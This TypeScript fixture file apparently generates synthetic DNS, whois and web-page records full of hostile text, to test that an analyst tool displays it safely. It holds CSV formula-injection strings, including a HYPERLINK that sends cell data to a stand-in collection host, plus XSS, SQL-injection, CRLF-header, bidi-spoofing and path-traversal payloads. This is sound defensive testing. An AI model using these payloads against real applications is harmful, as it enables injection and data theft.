// Hostile text in fields that analysts read.
//
// TXT records that a spreadsheet would run, whois fields and page titles with markup, direction overrides and zero-width
// characters that make a text look like another, a TXT record of 64 kB, a name of 253 characters, names that are not Latin.
// None of these domains is listed: a guard must hold without a warning.
//
// Verdict: harmless when shown as plain text.

import { openDirectory, jarm, jarmOf, visit } from '#sample/evidence.ts';
import { LANDMARKS } from '#sample/landmarks.ts';
import { randomFor } from '#sample/random.ts';
import type { SampleRows } from '#sample/rows.ts';
import type { Scribe } from '#sample/scribe.ts';
import { registrant, whoisServer, type Registrant } from '#sample/background/registrations.ts';

const FORMULAS = LANDMARKS.formulaDomain.indicator;
const MARKUP = LANDMARKS.markupDomain.indicator;
const BIDI = LANDMARKS.bidiDomain.indicator;
const JUMBO = LANDMARKS.jumboTxtDomain.indicator;
const LONG_NAME = LANDMARKS.longName.indicator;
const SERVERS = ['ns1.stillwater-dns.example', 'ns2.stillwater-dns.example'];
const ADDRESS = '192.0.2.195';

/** The largest rdata that DNS can carry is 65,535 bytes. */
const JUMBO_TXT_LENGTH = 65_535;

const TXT_RECORDS: readonly string[] = [
  `=HYPERLINK("http://collect.${FORMULAS}/?x="&A1,"Click for details")`,
  `=cmd|'/C calc'!A0`,
  `+1+1+cmd|'/C calc'!A0`,
  '-2+3+cmd|',
  '@SUM(1+1)*cmd|',
  '\t=1+1',
  '=1+1\n=2+2',
  '  =1+1',
  '\uFF1D1+1',
  'quoted "inside", with a comma; and a semicolon',
  "'; DROP TABLE obs; --",
  'back\\slash and \\u0000 as text, and a real \u0001 control character',
];

const PEOPLE: Readonly<Record<string, Partial<Registrant>>> = {
  [MARKUP]: {
    name: '<script>document.title="owned"</script>',
    org: '<img src=x onerror="alert(document.domain)">',
    address: ['"><svg onload=alert(1)>', '{{constructor.constructor("alert(1)")()}}', 'javascript:alert(1)'],
    city: '</td></tr></table><h1>Hello</h1>',
    emails: [`"<b>bold</b>"@${MARKUP}`],
  },
  [BIDI]: {
    name: '\u202Egnp.exe\u202C invoice',
    org: 'Har\u200Bbor\u200Dline\uFEFF Ba\u00ADnk',
    address: ['\u2067sdrawkcab\u2069 Street 1', 'line\u2028separator'],
    city: 'e\u0301\u0301\u0301\u0301\u0301lmhaven',
  },
  'emoji-circus.example': {
    name: '\u{1F3AA} Ringmaster',
    org: '\u{1F525}\u{1F525} Hot Deals \u{1F469}\u200D\u{1F4BB} GmbH \u{1F525}',
  },
  'souq-lantern.example': {
    name: '\u0644\u064A\u0644\u0649 \u0627\u0644\u062D\u062F\u0627\u062F',
    org: '\u0634\u0631\u0643\u0629 \u0627\u0644\u0641\u0627\u0646\u0648\u0633',
    city: '\u062F\u0628\u064A',
    country: 'AE',
  },
  'even-hamachi.example': { name: '\u6771 \u82B1\u5B50', org: '\u682A\u5F0F\u4F1A\u793E\u6771\u96F2', country: 'JP' },
  [FORMULAS]: { name: '=1+1', org: '@HARMLESS', address: ['+44 is not a number', '-dash'] },
  [JUMBO]: {},
};

function* ordinaryRecords(scribe: Scribe, domain: string): SampleRows {
  yield scribe.address(domain, ADDRESS, [300, 0]);
  yield scribe.address(`www.${domain}`, ADDRESS, [300, 0]);
  yield* scribe.set('NS', domain, SERVERS, [300, 0]);
}

function* hostileWhois(scribe: Scribe, domain: string, hostile: Partial<Registrant>): SampleRows {
  for (const daysAgo of [250, 40]) {
    yield scribe.whois(domain, {
      ...registrant(randomFor(`hostile/${domain}`), domain),
      // it used to be harmless, so the diff of two records is hostile too
      ...(daysAgo === 40 ? hostile : {}),
      daysAgo,
      created: 1520,
      changed: daysAgo + 3,
      registrar: 'Zonegarden Domains',
      nameservers: SERVERS,
      whois_server: whoisServer('Zonegarden Domains'),
    });
  }
}

function* hostilePages(scribe: Scribe): SampleRows {
  yield* visit(scribe, {
    address: ADDRESS,
    hostname: MARKUP,
    daysAgo: 6,
    response: '200 <b>OK</b>',
    headers: {
      server: '<script>alert(1)</script>',
      'x-link': `javascript:alert("${MARKUP}")`,
      'x-newline': 'one\r\nset-cookie: two',
    },
    title: '</title><script>alert(1)</script>',
  });
  yield* visit(scribe, {
    address: ADDRESS,
    hostname: BIDI,
    daysAgo: 6,
    headers: { server: '\u202Exnign' },
    title: '\u202Eknab ruoy\u202C \u200B',
  });
  yield jarm(scribe, ADDRESS, {
    hash: jarmOf('hostile'),
    banner: '\u001b[31mred\u001b[0m <i>banner</i>',
    from: 200,
    to: 2,
  });
  yield* openDirectory(scribe, ADDRESS, 6, [
    ['<img src=x onerror=alert(1)>.html', 12, 20],
    ['report\u202Efdp.exe', 91_136, 20],
    ['..%2f..%2fetc/', null, 20],
    [`${'deep/'.repeat(40)}end.txt`, 0, 20],
  ]);
}

export function* hostileText(scribe: Scribe): SampleRows {
  for (const [domain, hostile] of Object.entries({ ...PEOPLE, 'long-names.example': {} })) {
    yield* ordinaryRecords(scribe, domain);
    yield* hostileWhois(scribe, domain, hostile);
  }
  for (const [i, text] of TXT_RECORDS.entries()) yield scribe.record('TXT', FORMULAS, text, [200 - i * 5, 0]);
  const jumbo = randomFor('hostile/jumbo').text(JUMBO_TXT_LENGTH - 8);
  yield scribe.record('TXT', JUMBO, `v=jumbo;${jumbo}`, [120, 0]);
  yield scribe.record('TXT', MARKUP, '<a href="javascript:alert(1)">verify</a>', [120, 0]);
  yield scribe.record('TXT', BIDI, 'txt=\u202Etxet desrever\u202C', [120, 0]);
  yield scribe.address(LONG_NAME, ADDRESS, [90, 0]);
  yield scribe.record('CNAME', `alias.${MARKUP}`, LONG_NAME, [90, 0]);
  yield scribe.address('_under._score.long-names.example', ADDRESS, [90, 0]);
  yield* hostilePages(scribe);
}
